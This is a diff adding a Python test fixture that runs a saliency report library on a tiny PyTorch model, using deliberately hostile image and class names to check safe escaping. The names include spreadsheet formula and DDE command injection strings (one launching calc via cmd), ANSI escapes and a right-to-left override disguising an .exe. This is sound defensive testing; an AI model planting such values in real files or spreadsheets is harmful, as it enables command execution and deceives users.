@@ -1,0 +1,51 @@
+"""A small report of every kind, on images and classes with names that nobody can show."""
+
+from functools import cache
+
+import torch
+from torch import nn
+
+from captum_paramsal.report import (
+    ComparisonSettings,
+    DoctorSettings,
+    ExplainSettings,
+    TriageSettings,
+    compare,
+    doctor,
+    explain,
+    triage,
+)
+from captum_paramsal.sources import LabelledTensors
+
+STRANGE = [
+    "a\x1b[31mred\x0b\x07.png",
+    "rtl\u202egnp.exe",
+    "caf\udce9.png",
+    '=HYPERLINK("http://x/?"&A1,"ok")',
+    "$\\frac{$",
+]
+CLASSES = {0: "=1+1", 1: "\ud800$x$", 2: "-1+cmd|' /C calc'!A0 \x1b"}
+QUIET = {"batch_size": 12, "show_progress": False}
+KINDS = {
+    "explain": lambda *args, **names: explain(
+        *args, settings=ExplainSettings(traces=False, keep_pixels=True, cards=2, **QUIET), **names
+    ),
+    "doctor": lambda *args, **names: doctor(*args, settings=DoctorSettings(confidence=0, cards=2, **QUIET), **names),
+    "triage": lambda *args, **names: triage(*args, settings=TriageSettings(**QUIET), **names),
+    "compare": lambda *args, **names: compare(
+        *args, settings=ComparisonSettings(methods=["random"], metrics=["sparsity"], shown=5, **QUIET), **names
+    ),
+}
+
+
+@cache
+def strange_report(kind):
+    torch.manual_seed(0)
+    model = nn.Sequential(
+        nn.Conv2d(3, 12, 3), nn.ReLU(), nn.AdaptiveAvgPool2d(1), nn.Flatten(), nn.Linear(12, 3)
+    ).eval()
+    count = 15
+    images = torch.rand(count, 3, 8, 8)
+    names = [STRANGE[number % 5] for number in range(count)]
+    source = LabelledTensors(images, torch.arange(count) % 3, names=names, notes=["@SUM(1)\u202e"] * count)
+    return KINDS[kind](model, source, classes=CLASSES)
